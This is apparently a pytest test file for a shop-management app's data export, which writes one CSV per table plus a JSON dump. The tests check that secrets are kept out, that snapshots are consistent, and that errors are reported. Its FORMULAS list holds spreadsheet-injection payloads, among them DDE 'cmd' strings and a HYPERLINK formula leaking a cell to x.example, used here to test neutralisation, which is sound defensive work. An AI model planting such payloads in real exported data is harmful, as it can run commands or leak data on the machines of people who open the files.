"""Everything can be taken out in open formats, from one moment, without secrets and without formulas."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
from pathlib import Path
from types import SimpleNamespace

import pytest

from app.book import export as exporting
from app.book.door import Book
from app.book.export import export_book, exported_columns, exported_tables
from app.book.file_header import SCHEMA
from app.book.tables import Customer, JobNote, Staff, metadata
from app.trade.refusal import Refusal
from app.trade.sentence import Sentence
from app.trade.upkeep.csv_text import plain_text

WHY = Sentence("tried")
# From memory: payload lists of OWASP's "CSV injection" page and their usual variants.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"price")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1',
    " =1+1",
    'plain, with a comma; "quotes" and\na second line',
    "Ελληνικά ł ø",
]


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_there_is_one_csv_for_each_table_and_one_json_of_everything(book: Book, out: Path) -> None:
    folder = out / "export"
    files = export_book(book, folder)
    assert sorted(path.name for path in files) == sorted(
        [*(f"{table.name}.csv" for table in exported_tables()), "book.json"]
    )
    for name in (
        "jobs",
        "readings",
        "trials",
        "modifications",
        "fittings",
        "history",
        "customers",
        "invoices",
    ):
        assert (folder / f"{name}.csv").exists()
    whole = json.loads((folder / "book.json").read_text(encoding="utf-8"))
    assert whole["schema"] == SCHEMA
    assert whole["made_at"].endswith("Z")
    with book.ask() as session:
        connection = session.connection()
        for table in exported_tables():
            count = connection.exec_driver_sql(f"SELECT count(*) FROM {table.name}").scalar_one()
            assert len(whole["tables"][table.name]) == count == len(read_csv(folder / f"{table.name}.csv"))
    assert sorted(path.name for path in folder.iterdir()) == sorted(path.name for path in files)


def test_values_are_what_the_book_says(book: Book, out: Path) -> None:
    export_book(book, out)
    (job, _) = read_csv(out / "jobs.csv")
    assert job["id"] == "1"
    assert job["taken_in_at"] == "2026-03-12T09:00:00Z"
    assert job["stage"] == "handed back"
    (line, _) = read_csv(out / "invoice_lines.csv")
    assert line["price"] == "25000000"
    (invoice, _) = read_csv(out / "invoices.csv")
    assert invoice["issued_on"] == "2026-03-01"
    assert json.loads(invoice["groups"]) == [[1900, "S", 5000, 950, ""]]
    (reading, _) = read_csv(out / "readings.csv")
    assert (reading["value"], reading["digits"], reading["struck_at"]) == ("0.05", "0.050", "")
    whole = json.loads((out / "book.json").read_text(encoding="utf-8"))
    assert whole["tables"]["jobs"][0]["taken_in_at"] == "2026-03-12T09:00:00Z"
    assert whole["tables"]["readings"][0]["digits"] == "0.050"
    assert whole["tables"]["invoices"][0]["groups"] == [[1900, "S", 5000, 950, ""]]


def test_secrets_stay_inside(book: Book, out: Path) -> None:
    with book.change(None, WHY) as change:
        change.get(Staff, 1).pin_hash = "$argon2id$v=19$not-for-others"
    export_book(book, out)
    assert not any(b"argon2" in path.read_bytes() for path in out.iterdir())
    assert "pin_hash" not in [column.name for column in exported_columns(metadata.tables["staff"])]


def test_text_that_a_spreadsheet_would_run_is_neutralised_and_can_be_read_back(book: Book, out: Path) -> None:
    with book.change(None, WHY) as change:
        for payload in FORMULAS:
            change.add(JobNote(job_id=1, text=payload, at=change.now, by=1))
            change.add(Customer(name=payload, created_at=change.now))
    export_book(book, out)
    for name, column in (("job_notes", "text"), ("customers", "name")):
        cells = [row[column] for row in read_csv(out / f"{name}.csv")][-len(FORMULAS) :]
        assert [plain_text(cell) for cell in cells] == FORMULAS
        assert not any(cell[:1] in "=+-@\t\r" for cell in cells)
    whole = json.loads((out / "book.json").read_text(encoding="utf-8"))
    assert [row["text"] for row in whole["tables"]["job_notes"]][-len(FORMULAS) :] == FORMULAS


def test_a_negative_number_stays_a_number(book: Book, out: Path) -> None:
    from app.book.tables import PartMove

    with book.change(None, WHY) as change:
        change.add(
            PartMove(part_id=1, kind="used", quantity=-1_000_000, price=0, vat_rate=1900, at=change.now, by=1)
        )
    export_book(book, out)
    assert read_csv(out / "part_moves.csv")[-1]["quantity"] == "-1000000"


def test_an_export_is_of_one_moment_and_nobody_waits_for_it(book: Book, out: Path) -> None:
    def write(table: str) -> None:
        with book.change(None, WHY) as change:
            change.add(Customer(name=f"came during {table}", created_at=change.now))

    export_book(book, out, write)
    assert len(read_csv(out / "customers.csv")) == 2
    assert not any("came during" in row["text"] for row in read_csv(out / "history_texts.csv"))


def test_an_export_replaces_the_one_before(book: Book, out: Path) -> None:
    export_book(book, out)
    with book.change(None, WHY) as change:
        change.add(Customer(name="A", created_at=change.now))
    export_book(book, out)
    assert len(read_csv(out / "customers.csv")) == 3


def test_an_export_that_is_stopped_leaves_the_one_before(book: Book, out: Path) -> None:
    export_book(book, out)
    before = {path: path.read_bytes() for path in out.iterdir()}

    class Stop(Exception):
        pass

    def stop(table: str) -> None:
        if table == "jobs":
            raise Stop

    with pytest.raises(Stop):
        export_book(book, out, stop)
    assert {path: path.read_bytes() for path in out.iterdir()} == before


def test_a_folder_that_cannot_be_written_is_said(book: Book, out: Path) -> None:
    out.write_text("in the way")
    with pytest.raises(Refusal, match="failed"):
        export_book(book, out)


def test_no_room_is_said(book: Book, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "disk_usage", lambda folder: SimpleNamespace(free=5))
    with pytest.raises(Refusal, match="no room"):
        export_book(book, out)


def test_a_damaged_book_is_said(book: Book, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def damaged(path: Path, part: Path) -> None:
        error = sqlite3.DatabaseError("database disk image is malformed")
        error.sqlite_errorcode = sqlite3.SQLITE_CORRUPT
        raise error

    with monkeypatch.context() as patch:
        patch.setattr(exporting, "copy_pages", damaged)
        with pytest.raises(Refusal, match="damaged"):
            export_book(book, out)
    with book.ask() as session:
        page = (
            session.connection()
            .exec_driver_sql("SELECT rootpage FROM sqlite_master WHERE name = 'readings'")
            .scalar_one()
        )
    book.engine.dispose()
    with book.path.open("rb+") as file:
        file.seek((page - 1) * 4096)
        file.write(b"\xff" * 4096)
    with pytest.raises(Refusal, match="damaged"):
        export_book(book, out)
    assert list(out.glob("*.csv")) == []
